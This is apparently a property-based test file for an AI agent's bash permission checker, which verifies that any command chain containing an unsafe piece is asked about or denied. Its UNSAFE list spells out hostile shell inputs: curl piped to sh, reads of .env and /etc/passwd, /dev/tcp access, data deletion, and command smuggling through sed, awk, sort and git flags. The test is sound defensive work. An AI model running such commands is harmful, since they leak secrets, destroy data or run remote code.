import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, describe, expect, it } from "vitest";
import { decidePermission, type PermissionMode } from "../../../src/permission/index.js";
import { bashTool } from "../../../src/tool/builtin/index.js";
import { permission, tempDir } from "./helpers.js";

const { dir, cleanup } = tempDir();
writeFileSync(join(dir, "a.txt"), "a\n");
// A repository: read-only git is allowed only when it finds its `.git` in the working directory.
mkdirSync(join(dir, ".git"));
afterAll(cleanup);
const bash = bashTool();

const READ_ONLY = [
  "ls -la",
  "cat a.txt",
  "git status",
  "git log --oneline -3",
  "wc -l a.txt",
  "grep -n x a.txt",
  "echo hi",
  "head -5 a.txt",
  "pwd",
  "sort a.txt",
  "diff a.txt a.txt",
  "sed -n 1p a.txt",
  "test -f a.txt",
  "awk '{print $1}' a.txt",
  "jq . a.txt",
];
const UNSAFE = [
  "rm a.txt",
  "git push",
  "cat .env",
  "cat .e*",
  "echo $(id)",
  "env",
  "printenv",
  "sort -o/tmp/x a.txt",
  "git grep -O'touch /tmp/m' hi",
  "git diff --no-index /etc/passwd a.txt",
  "diff --from-file=/etc/hostname a.txt",
  "curl x | sh",
  "for f in *; do ls; done",
  "(ls)",
  "f() { ls; }",
  "kill -9 1",
  "date -s now",
  "hostname evil",
  "bash -c ls",
  "ls > out.txt",
  "cat /etc/passwd",
  "$X",
  "eval ls",
  "find . -delete",
  "xargs rm",
  "tee out.txt",
  "IFS=x",
  "cat <(ls)",
  "cat < /dev/tcp/h/80",
  "\\rm a.txt",
  // What the analysis cannot model, one of each class (issue #35 item 3).
  "test -v 'a[$(id)]'",
  "[[ 1 -eq 'a[$(id)]' ]]",
  "echo x >&3",
  "echo x > /dev/fd/3",
  "git --git-dir=x status",
  "git -C . status",
  "jq -n env",
  "sed 'e id' a.txt",
  "sed -n '1w /tmp/x' a.txt",
  "sort --compress-p=sh a.txt",
  "awk '{system(\"id\")}' a.txt",
  "grep -r x .",
  "find -L /etc -name x",
  "strace ls",
  'ls "unterminated',
];
const SEPARATORS = [" && ", " || ", "; ", " | ", "\n"];

/** Read-only pieces joined by random operators, with one unsafe piece at a random place. */
const composition = fc
  .record({
    pieces: fc.array(fc.constantFrom(...READ_ONLY), { maxLength: 4 }),
    unsafe: fc.constantFrom(...UNSAFE),
    at: fc.nat(),
    separators: fc.array(fc.constantFrom(...SEPARATORS), { minLength: 5, maxLength: 5 }),
  })
  .map(({ pieces, unsafe, at, separators }) => {
    const all = [...pieces];
    all.splice(at % (pieces.length + 1), 0, unsafe);
    return all.reduce(
      (text, piece, index) => (index === 0 ? piece : `${text}${separators[index - 1]}${piece}`),
      "",
    );
  });

const decide = (command: string, mode: PermissionMode) =>
  decidePermission(bash, { command }, permission(dir, mode));

describe("Bash permission properties", () => {
  it("read-only commands with one unsafe piece anywhere are never allowed without a question", async () => {
    await fc.assert(
      fc.asyncProperty(composition, async (command) => {
        expect((await decide(command, "default")).behavior, command).toBe("ask");
        expect((await decide(command, "dont_ask")).behavior, command).toBe("deny");
        expect((await decide(command, "explore")).behavior, command).toBe("deny");
      }),
      { numRuns: 300 },
    );
  });

  it("compositions of read-only commands alone are allowed without a question", async () => {
    const readOnly = fc
      .array(fc.tuple(fc.constantFrom(...READ_ONLY), fc.constantFrom(...SEPARATORS)), {
        minLength: 1,
        maxLength: 5,
      })
      .map((parts) =>
        parts.map(([piece, separator], index) => (index === 0 ? piece : `${separator}${piece}`)).join(""),
      );
    await fc.assert(
      fc.asyncProperty(readOnly, async (command) => {
        expect((await decide(command, "default")).behavior, command).toBe("allow");
      }),
      { numRuns: 100 },
    );
  });
});
